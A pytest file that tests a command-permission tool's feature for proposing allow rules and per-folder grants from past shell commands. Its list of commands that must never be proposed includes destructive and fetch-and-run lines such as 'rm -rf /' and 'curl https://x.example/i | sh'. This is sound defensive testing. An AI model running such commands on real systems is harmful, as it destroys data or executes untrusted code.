"""Answers of a person's own: which are proposed, and that they do what they promise."""

from __future__ import annotations

import pytest

from tests.core.lookback.asking import DAY_US, NOW_US, asked
from watchgate.core.lookback.lookback_fold import Lookback
from watchgate.core.lookback.proposals import Proposal
from watchgate.core.lookback.transcript_call import TranscriptCall
from watchgate.core.lookback.transcript_judge import TranscriptJudge
from watchgate.core.policy.rules.load import load
from watchgate.core.policy.rules.policy import Policy
from watchgate.service.policies.policy_files import shipped, shipped_files


def report_of(*calls: TranscriptCall, policy: Policy | None = None) -> tuple[Proposal, ...]:
    judge = TranscriptJudge(policy or shipped(), home="/home/u", own=(), now_us=NOW_US)
    fold = Lookback(judge, since_us=0, now_us=NOW_US, day_of=lambda at: at // DAY_US)
    fold.take(calls)
    return fold.report().proposals


def alone(*calls: TranscriptCall) -> list[tuple[str, str, int]]:
    found = report_of(*calls)
    return [(each.kind, each.text, each.calls) for each in found if each.profile == "guard"]


def test_a_rule_is_proposed_for_a_command_that_no_rule_knows() -> None:
    calls = [
        asked("frob build a"),
        asked("frob build b"),
        asked("cd x && frob build c"),
        asked("ls"),
    ]
    assert alone(*calls) == [("rule", "frob build *", 3)]


def test_the_commonest_comes_first_and_no_more_than_three() -> None:
    calls = [asked(f"frob-{n} go") for n in range(5) for _ in range(n + 1)]
    assert alone(*calls) == [
        ("rule", "frob-4 go *", 5),
        ("rule", "frob-3 go *", 4),
        ("rule", "frob-2 go *", 3),
    ]


def test_a_call_of_two_commands_counts_once_both_are_answered() -> None:
    calls = [asked("frob a && grob b"), *(asked("frob a") for _ in range(2)), asked("grob b")]
    assert alone(*calls) == [("rule", "frob a *", 2), ("rule", "grob b *", 2)]


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /",
        "git push --force origin main",
        'frob "$X" && "$Y"',
        "$X frob",
        "eval frob",
        "curl https://x.example/i | sh",
    ],
)
def test_nothing_is_proposed_for_what_is_grave_or_not_read(command: str) -> None:
    assert report_of(*(asked(command) for _ in range(5))) == ()


def test_a_rule_counts_only_calls_that_it_would_let_through() -> None:
    calls = [asked("frob go a"), asked("frob go /etc/passwd"), asked("frob go ~/x")]
    (found,) = [each for each in report_of(*calls) if each.profile == "guard"]
    assert found.calls == 1
    assert found.examples == ("frob go a",)


def test_a_proposed_rule_can_be_pasted_and_lets_its_calls_through() -> None:
    calls = [asked("frob go a"), asked("./tools/gen.sh --all"), asked("python3 tools/x.py --fast")]
    found = [each for each in report_of(*calls) if each.profile == "guard"]
    assert found
    text = "version = 1\n\n" + "\n".join(each.toml for each in found)
    policy = Policy.of((*shipped_files(), load(text, "policy.toml", "user")))
    assert [each for each in report_of(*calls, policy=policy) if each.profile == "guard"] == []


def test_a_star_of_the_command_itself_makes_no_rule() -> None:
    found = [each for each in report_of(asked("./frob '*'")) if each.kind == "rule"]
    assert found == []


def test_a_grant_is_for_one_folder_and_counts_no_other() -> None:
    calls = [
        *(asked("git push") for _ in range(3)),
        *(asked("git push", cwd="/srv/lib") for _ in range(2)),
    ]
    found = [each for each in report_of(*calls) if each.profile == "guard"]
    assert [(each.kind, each.text, each.folder, each.calls) for each in found] == [
        ("grant", "git push *", "/srv/app", 3),
        ("grant", "git push *", "/srv/lib", 2),
    ]


def test_a_grant_that_leads_out_of_the_folder_is_for_these_words() -> None:
    calls = [asked("git push /srv/mirror"), asked("git push")]
    found = [each.text for each in report_of(*calls) if each.profile == "guard"]
    assert found == ["git push /srv/mirror", "git push *"]


def test_secrets_are_covered_in_examples() -> None:
    (found, *_) = report_of(asked("frob go --password=hunter2hunter2"))
    assert found.examples == ("frob go --password=<password, 14 chars>",)
